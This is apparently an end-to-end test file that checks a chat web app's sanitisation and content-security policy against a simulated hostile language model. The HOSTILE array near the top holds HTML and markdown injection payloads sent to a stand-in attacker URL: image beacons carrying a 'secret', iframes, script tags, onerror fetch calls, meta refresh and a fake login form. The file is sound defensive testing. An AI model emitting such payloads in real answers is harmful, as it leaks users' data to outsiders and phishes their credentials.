/** What a hostile model writes, and strangers' pages, at the built site behind the real relay. */

import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { By, until, type WebDriver } from 'selenium-webdriver'
import { launch, type Server, startServer } from '../webdriver/index.js'
import { ChatPage } from './chat-page.js'
import { type Listener, startModel, startStranger } from './hostile-model.js'

const SITE = fileURLToPath(new URL('../../www/dist', import.meta.url))
const CHATS = ['vue.html', 'react.html']
const PAGES = ['index.html', ...CHATS, 'docs/index.html', 'recipes.html', 'bench/index.html']

/** How long a page is waited for, in milliseconds. */
const PATIENCE = 30_000

/** Answers that fetch, cover the page, or ask for something; `URL` is the attacker's. */
const HOSTILE = [
  '![](URL/image?secret) ![x][1]\n\n[1]: URL/reference',
  '<img src="URL/img" srcset="URL/srcset 2x"><picture><source srcset="URL/source"><img></picture>',
  '<video src="URL/video" poster="URL/poster" autoplay></video><audio src="URL/audio" autoplay></audio>',
  '<iframe src="URL/iframe"></iframe><object data="URL/object"></object><embed src="URL/embed">',
  '<svg><image href="URL/svg"/><use href="URL/use#a"/></svg><math href="URL/math">x</math>',
  '<style>@import "URL/import"; *{position:fixed;background:url(URL/style)}</style>',
  '<p style="position:fixed;inset:0;background:url(URL/attribute)">x</p><table background="URL/bg"></table>',
  '<link rel="stylesheet" href="URL/css"><link rel="preload" as="image" href="URL/preload"><link rel="prefetch" href="URL/prefetch">',
  '<base href="URL/"><meta http-equiv="refresh" content="0;url=URL/refresh">',
  '<form action="URL/form" id="app" class="button"><input type="password" autofocus><button>Log in</button></form>',
  '<script src="URL/script"></script><img src=x onerror="fetch(\'URL/onerror\')">',
  '<dialog open>x</dialog><a href="URL/a" ping="URL/ping">x</a> [x](URL/link) [x](javascript:alert(1))',
]
const INTRICATE = ['>'.repeat(6000), '_**a'.repeat(5000), '<div>'.repeat(10_000), '- '.repeat(6000)]

const FORBIDDEN =
  /^(?:img|picture|source|video|audio|iframe|object|embed|svg|math|style|link|base|meta|form|input|button|script|dialog)$/

let attacker: Listener
let model: Listener
let relay: Server
let driver: WebDriver

before(async () => {
  attacker = await startStranger()
  const hostile = HOSTILE.map((answer) => answer.replaceAll('URL', attacker.url))
  model = await startModel([...hostile, ...INTRICATE])
  const upstream = ['--upstream', model.url, '--model', 'hostile']
  relay = await startServer('sluicegate-relay', ['--site', SITE, '--weather', ...upstream])
  driver = await launch('chromium')
  await driver.manage().window().setRect({ width: 1280, height: 860 })
})

after(async () => {
  await driver.quit()
  await relay.stop()
  await model[Symbol.asyncDispose]()
  await attacker[Symbol.asyncDispose]()
})

const keepViolations = `window.violations = []
addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
  violations.push(violatedDirective + ' ' + blockedURI))`

/** Opens a page whose violations of its policy are kept from its very start. */
async function open(path: string): Promise<void> {
  const chromium = driver as WebDriver & {
    sendAndGetDevToolsCommand(name: string, parameters: object): Promise<unknown>
  }
  await chromium.sendAndGetDevToolsCommand('Page.addScriptToEvaluateOnNewDocument', {
    source: keepViolations,
  })
  await driver.get(`${relay.url}/${path}`)
  await driver.wait(until.elementLocated(By.css('main h1')), PATIENCE)
}

const violations = () => driver.executeScript<string[]>('return window.violations')

describe('an answer of a hostile model', () => {
  for (const path of CHATS) {
    test(`fetches, covers and asks nothing in ${path}`, async () => {
      await open(path)
      const page = new ChatPage(driver)
      await page.open(`${relay.url}/${path}`)
      for (const [index] of HOSTILE.entries()) {
        await page.ask(`${index}`)
        await page.until((all) => all.at(-1)?.status.startsWith('complete') === true)
        const shown = await driver.executeScript<string[]>(
          `return Array.from(document.querySelectorAll('.answer *'), ({ localName }) => localName)`,
        )
        assert.ok(shown.length > 0)
        assert.deepEqual(
          shown.filter((name) => FORBIDDEN.test(name)),
          [],
        )
        await page.click('new')
      }
      // What would have been fetched was asked for before this.
      await fetch(`${attacker.url}/last`)
      assert.deepEqual(attacker.visits.splice(0), ['/last'])
      assert.deepEqual(await violations(), [])
    })

    for (const [index, text] of INTRICATE.entries()) {
      test(`${JSON.stringify(text.slice(0, 8))}… ends in ${path}, and another can be asked for`, async () => {
        const page = new ChatPage(driver)
        await page.open(`${relay.url}/${path}`)
        await page.ask(`${HOSTILE.length + index}`)
        await page.until((all) => all.at(-1)?.status.startsWith('complete') === true)
        assert.equal((await driver.findElements(By.css('[data-testid=stop]'))).length, 0)
        assert.equal(await page.kept(), text)
        await page.ask('0')
        await page.until((all) => all.at(-1)?.status.startsWith('complete') === true)
      })
    }
  }
})

describe('the policy of the pages', () => {
  for (const path of PAGES) {
    test(`is not violated by ${path} itself`, async () => {
      await open(path)
      if (path.startsWith('bench')) {
        await driver.findElement(By.css('[data-testid=run]')).click()
        await driver.wait(until.elementLocated(By.css('[data-testid=ran]')), 120_000)
      }
      assert.deepEqual(await violations(), [])
      const isInForce = await driver.executeScript<boolean>(
        `try { document.createElement('p').innerHTML = '<b>x</b>'; return false } catch { return true }`,
      )
      assert.equal(isInForce, true)
    })
  }

  test('lets no stranger frame them', async () => {
    const frames = PAGES.map((path) => `<iframe src="${relay.url}/${path}"></iframe>`)
    await using stranger = await startStranger(frames.join(''))
    await driver.get(stranger.url)
    for (const [index] of PAGES.entries()) {
      await driver.switchTo().frame(index)
      assert.equal((await driver.findElements(By.css('#app'))).length, 0)
      await driver.switchTo().defaultContent()
    }
  })
})
